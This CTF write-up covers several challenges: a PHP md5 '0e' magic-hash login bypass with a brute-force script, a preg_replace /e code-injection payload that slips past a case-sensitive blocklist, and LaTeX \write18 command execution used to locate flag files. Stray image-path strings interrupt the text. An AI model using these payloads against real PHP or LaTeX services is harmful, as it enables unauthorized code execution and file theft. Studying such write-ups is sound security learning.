Ignoring what it even does, jumping around to the subroutine it's calling (renamed to handle_task) and pressing tab to get IDA pseudocode.


At this point, we're able to statically look over the code, with the knowledge of how the flag is supposed to look and piece together:

IW{S.E + .R.V.E + .R>=F: + A:R:M}


Quick Run(misc60, solved by 269)

Someone sent me a file with white and black rectangles. I don't know how to read it. Can you help me?

This was a funny challenge where after unzipping it you're presented with a single file that contains a bunch of wonky looking text. If you base64 decode it, you're presented with a set of:

██              ██    ██  ████              ██
██  ███  ███  ██  ██  ███  ██
██  ██      ██  ██  ███  ██  ██      ██  ██
██  ██      ██  ███  ██      ██  ██
██  ██      ██  ██    ██    ██  ██      ██  ██
██  ███  ████  ███  ███  ██
██              ██  ██  ██  ██              ██
███  ██  ███
████  ████  ██  ███      ████  ██  ██  ██
██  ██  ██  ████  ██  ███      ███    ██
██  ██          ██  ██      ████  ███  ██
██  ███  ██  ██  ██  ██  ██  ████  ████
████  ██    ██  ██  ██  ██  ██  ██  ██  ██  ██
███  ██  ██  ██  ██  ██  ████
██              ███  ██  ██  ██  ██  ██  ██
██  ███  ████  ██  ██  ██  ██  ██  ████
██  ██      ██  ██  ██  ██  ████  ██  ██  ██
██  ██      ██  ████  ██  ██  ██  ██  ██  ████
██  ██      ██  ███  ██  ██  ██  ██  ██  ██
██  ███  ██    ███  ████  ██    ██
██              ███          ██  ██  ██  ██

These are actually QR codes, decoding each one reveals:


We could've saved 5 minutes by realizing to start looking for 'IW' first, and not decoding 'flagis:'.

Mess of Hash

(web50, solved by 170)

Students have developed a new admin login technique. I doubt that it's secure, but the hash isn't crackable. I don't know where the problem is...

This was an interesting challenge. On unzipping the challenge you're presented with a single README.txt.

All info I have is this:

$admin_user = "pr0_adm1n";
$admin_pw = clean_hash("0e408306536730731920197920342119");

function clean_hash($hash) {
    return preg_replace("/[^0-9a-f]/","",$hash);

function myhash($str) {
    return clean_hash(md5(md5($str) . "SALT"));

The website listed in the challenge description is simply a login screen. It's unlikely the challenge is meant to be an SQL injection, or XSS, or anything like that. Checking some basic directories/files consistent with the other challenges tells me that admin.php doesn't exist, nor does admin, but flag.php is there, it's just not readable (flag.php page loads, it's justblank).

So we have to somehow read that flag.php. There's really two ways, it's either just presented to us if we login as the 'pr0_adm1n' user, or via SQLi. Let's see what we can think of for how to login as 'pr0_adm1n' knowing we have what seems to be the server-side hashing code, and the admin's hashed password.

Path of least resistance... we can guess the hash is md5,based on the length of it, let's see if it's cracked already online! Nope, google shows up nothing. Okay, so the hashing code seems to take in a $str, which I guess is probably the password when a user is created in this fictional school (from the challenge description). The password is hashed, then the string "SALT" is appended to it, i.e. salting it, and then it's hashed again. And then for some reason, that I'm not too sureabout, it seems to remove all non-hex characters.

The hashing seems clean. I don't see how to get a hash collision, and bruteforce would be lame, and considering it's not found online, it's probably not a short password. I'm out of ideas here, the best I can think of is that this is another one of PHP's infamous security holes, and the md5 function is somehow poorly implemented. Googling for "md5 php dangerous" leads me to PHP: md5('240610708') == md5('QNKCDZO'). Interesting... so reading that it seems that PHP has a weird type issue:

All of them start with 0e, which makes me think that they're being parsed as floats and getting converted to 0.0.

This is exactly what we have. We just have to find a string that myhash()'s into something that starts with 0e, and then it will collide with the check on $admin_pw. Turns out the requirement is a bit stricter, and every hex character after 0e also has to be decimal, 0-9, for the conversion to float 0.0 to happen. But, this is still doable, and we now have a much smaller search space.

$admin_user = "pr0_adm1n";
$admin_pw = clean_hash("0e408306536730731920197920342119");

function clean_hash($hash) {
    return preg_replace("/[^0-9a-f]/","",$hash);

function myhash($str) {
    return clean_hash(md5(md5($str) . "SALT"));

function generateRandomString($length = 10) {
    $characters = '0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ';
    $charactersLength = strlen($characters);$randomString = '';
    for ($i = 0; $i < $length; $i++) {
        $randomString .= $characters[rand(0, $charactersLength - 1)];
    return $randomString;

for ($i = 0; $i < 100000000; $i++) {
    $result = generateRandomString(8);
    if (myhash($result) == $admin_pw) {
        print($result . "  " . myhash($result) . "\n");
woo!KyJg0SXC  0e588095185108872523046880371953

Logging in with the username, pr0_adm1n, and password, KyJg0SXC, will lead to a hash collision, and at login flag.php is displayed.


Brute with Force

(code80, solved by 90)

People say, you're good at brute forcing... Have fun! Hint: You don't need to crack the 31. character (newline). Try to think of different (common) time representations. Hint2: Time is CET

This is a task I did not successfully get. After reviewing other people's solutions, I realized my mistake was misunderstanding the expected format.Upon connecting to the challenge server, you're presented with:

Hint: Format is TIME:CHAR
Char 0: Time is 19:33:21, 052th day of 2016 +- 30 seconds and the hash is: b3007e6bb4ae0e4ff58c719fc11fa89f8cb4cb78

My thoughts:

So we have a format of TIME:CHAR, however we don't know what exactly is TIME defined as, and what is CHAR defined as? Time could be "19:33:21", or maybe they meant they want the format as "19:33:21, 052th day of 2016 +- 30 seconds", or maybe it's something else? And what is the hash for?

After some debate with the team, I come to the conclusion that they expect the format like this <Time in some format>:<Char presented to you>, where the time can be +/- 30 seconds of when you connected/got the prompt. The hash of that guess should be equal to the hash presented to you. You respond back to the server with <The time that hashed correctly>:<Char presented to you>, and you'll then get sent back the first character of the flag. Do this 32(?) times, and you'll have the flag. Okay!

So there's still the unanswered question of what date format do they want. I'll try everything on the first hash prompted to us (CHAR: 0), whichever date format worked out for that, is the date format we'll use for the next 31 hashes!

import subprocess
import hashlib

for i in range(-30, 30):
    dates = []
    dates.append(subprocess.check_output("TZ=Europe/Rome date '+%T' --date='+{} seconds'".format(str(i)), shell=True))
    dates.append(subprocess.check_output("TZ=Europe/Rome date '+%s' --date='+{} seconds'".format(str(i)), shell=True))
    dates.append(subprocess.check_output("TZ=Europe/Rome date '+%Y%m%d-%H%M%S' --date='+{} seconds'".format(str(i)), shell=True))
    dates.append(subprocess.check_output("TZ=Europe/Rome date '+%H%M%S'--date='+{} seconds'".format(str(i)), shell=True))
    dates.append(subprocess.check_output("TZ=Europe/Rome date '+%R' --date='+{} seconds'".format(str(i)), shell=True))
    dates.append(subprocess.check_output("TZ=Europe/Rome date '+%r' --date='+{} seconds'".format(str(i)), shell=True))
    dates.append(subprocess.check_output("TZ=Europe/Rome date '+%c' --date='+{} seconds'".format(str(i)), shell=True))
    dates.append(subprocess.check_output("TZ=Europe/Rome date -R --date='+{} seconds'".format(str(i)), shell=True))
    dates.append(subprocess.check_output("TZ=Europe/Rome date -Iseconds --date='+{} seconds'".format(str(i)), shell=True))
    dates.append(subprocess.check_output("TZ=Europe/Rome date --rfc-3339=seconds --date='+{} seconds'".format(str(i)), shell=True))

    for date in dates:
        guess = date.strip() + ":0"


Nothing hashed to the hash prompted to us. At this point it was late, I was tired, and cursing the challenge. Just tell us what date format you expect! I really don't want to go and Google every imaginabledate format there is, and test with every single one. So we didn't solve this challenge.

After the competition, other people's solutions made it clear to me what was wrong. I would have gotten the TIME format correct, my issue was actually the CHAR format. I thought you only had to bruteforce the time, and the 'Char 0', but actually you had to also bruteforce the CHAR. If I simply had another nested loop in my solver trying every ASCII character, I'd have gotten the challenge. Live and learn.

Replace with Grace

(web60, solved by 268)

Regular expressions are pretty useful. Especially when you need to search and replace complex terms.

It's a site that does simple search and replace on an input string.
For example:

Search: /cow/
Replace: cat
Input: cows are cute <3
-> cats are cute <3

My thought process for this challenge was then to find some sort of command injection. I was guessing that the site was using UNIX sed, by using pseudocode like:

cmd = 's' + <search> + <replace> + '/'
system("echo <input> | sed -i cmd")

A command injection in this case could be done by making <replace> something like /;cat flag;. But this wasn't working. I tried a few more avenues to get commandinjection in. Nothing worked. I was still convinced this was command injection into a UNIX shell, so I gave up for abit and did other challenges.

Coming back to the challenge, after solving a few other web challenges, made me realize that this is probably just feeding strings into PHP's (since all the other web challenges are written in PHP) search and replace function. I'm not a PHP developer, but googling for PHP search and replace leads me to preg_replace. Okay, it's probably this... doesn't seem bad, but PHP is notorious for being dangerous, so let's search up "preg_replace dangerous". Sure enough, preg_replace has a "bug/feature/wtf" where appending an /e to the <search> parameter will cause the <replace> parameter to be executed as code. Simple.

Testing some payloads, there seems to be a list of blocked words, that's nice that they tell us this error message and let us know our payload is on the right track. The blocked word checker is case-sensitive, and funny enough, PHP is not.

Search: /cow/e
Replace: syStEm("cat flag.php")
Input: Hi Mom!
-> $FLAG = IW{R3Pl4c3_N0t_S4F3}(web90, solved by 193)

Creating and using coperate templates is sometimes really hard. Luckily, we have a webinterace for creating PDF files. Some people doubt it's secure, but I reviewed the whole code and did not find any flaws.

On this challenge website, you're presented with a web app that parses LaTeX into a PDF, and returns that PDF to you. Essentially it's a web wrapper around the CLI pdftex. We already have code running on a machine, and the challenge creators were kind enough to provide us with a print of the stdout.

I've only used LaTeX once before (recently for a paper I submitted to a conference), so I'm fairly knew, but gained a lot of exposure to it. From experience, I know LaTeX is powerful, and can include other files inside of files, i.e. include a fragment .tex file inside of a parent .tex. So, let's Google for how to include a file. It took a lot of wrestling around in LaTeX, but I was finally able to get LaTeX to readan entire file line by line into a PDF, and export that PDF to me.

I decided I need to find a way to execute commands from LaTeX, to get a file listing, to find out where a flag file is. It turns out there's the \immediate\write18{ls xyz.* > temp.dat} construct in LaTeX. write18 is a function that is essentially system("...") for LaTeX. We can do a find / -name "*flag*" and find any files named flag on the file system.

